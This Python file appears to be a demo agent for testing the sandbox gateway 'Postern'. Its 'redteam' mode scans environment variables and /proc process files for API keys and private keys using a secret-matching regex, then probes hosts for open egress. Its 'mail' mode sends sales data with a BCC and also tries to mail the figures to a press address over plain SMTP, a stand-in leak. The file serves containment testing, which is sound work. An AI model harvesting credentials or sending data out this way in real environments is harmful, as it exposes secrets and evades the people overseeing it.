"""The demo's agent, which runs inside a sandbox. It holds no credential and talks to
Postern with the standard library alone.

redteam HOST:PORT...  tries to connect to each target and looks for secrets
mail FROM TO BCC      sends a report with the MCP tool email_send, and again by SMTP
read                  reads the inbox that the sandbox is bound to
"""

import email.message
import json
import os
import re
import smtplib
import socket
import sys
import time
import urllib.request

SECRET = re.compile(r"e2b_[0-9a-f]{40}|pib_[A-Z2-7]{26}|BEGIN [A-Z ]*PRIVATE KEY|AKIA[0-9A-Z]{16}")


def secrets():
    """Names the environment variables, and the files in /proc, that contain a secret.

    Hostile code in the sandbox could read all of them."""
    found = [k for k, v in os.environ.items() if SECRET.search(v)]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    text = f.read().decode("utf-8", "replace")
            except OSError:
                continue
            if SECRET.search(text):
                found.append(f"/proc/{pid}/{name}")
    return found


def attempt(host, port):
    """Tries one HTTP request. A connection that closes without a byte counts as blocked."""
    start = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=30) as s:
            s.settimeout(30)
            s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
            got = s.recv(100)
            how = "closed without an answer" if not got else f"ANSWERED {got[:40]!r}"
            blocked = not got
    except OSError as e:
        blocked, how = True, str(e)
    ms = round(1000 * (time.monotonic() - start))
    return {"host": host, "port": port, "blocked": blocked, "ms": ms, "how": how}


def redteam(targets):
    print(json.dumps({"secrets": secrets()}))
    for t in targets:
        host, _, port = t.rpartition(":")
        print(json.dumps(attempt(host, int(port))), flush=True)


def tool(name, arguments):
    """Calls a tool of Postern's MCP server with a plain HTTP request."""

    def post(message):
        req = urllib.request.Request(
            "http://postern.internal/mcp",
            json.dumps(message).encode(),
            {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"},
        )
        with urllib.request.urlopen(req, timeout=120) as r:
            text = r.read().decode()
        for line in text.splitlines():  # the answer may be JSON or an event stream
            if line.startswith("data:"):
                text = line[5:]
        return json.loads(text) if text.strip() else None

    post({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "demo agent", "version": "1"}}})
    answer = post({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": name, "arguments": arguments}})
    return answer["result"]


def mail(sender, to, bcc):
    import pandas

    sales = pandas.read_csv("/home/user/sales.csv")
    totals = sales.groupby("region")["amount"].sum()
    totals.to_csv("/home/user/totals.csv")
    text = "Totals by region:\n\n" + totals.to_string() + "\n"

    result = tool("email_send", {
        "to": [to], "bcc": [bcc], "subject": "Sales by region", "body": text, "attachments": ["/home/user/totals.csv"]})
    print(json.dumps({"tool": result}))

    m = email.message.EmailMessage()
    m["From"], m["To"], m["Subject"] = sender, "press@example.com", "Sales figures, fresh from the agent"
    m.set_content(text)
    with smtplib.SMTP("smtp.example.com", 25, timeout=120) as s:
        s.login("agent", "no password is needed here")
        s.send_message(m)
        print(json.dumps({"smtp": "accepted"}))


def read():
    inbox = tool("email_inbox", {})
    print(json.dumps({"inbox": inbox, "secrets": secrets()}))
    for m in inbox.get("structuredContent", {}).get("messages", []):
        print(json.dumps({"message": tool("email_message_get", {"id": m["id"]})}))


if __name__ == "__main__":
    {"redteam": lambda a: redteam(a), "mail": lambda a: mail(*a), "read": lambda a: read()}[sys.argv[1]](sys.argv[2:])
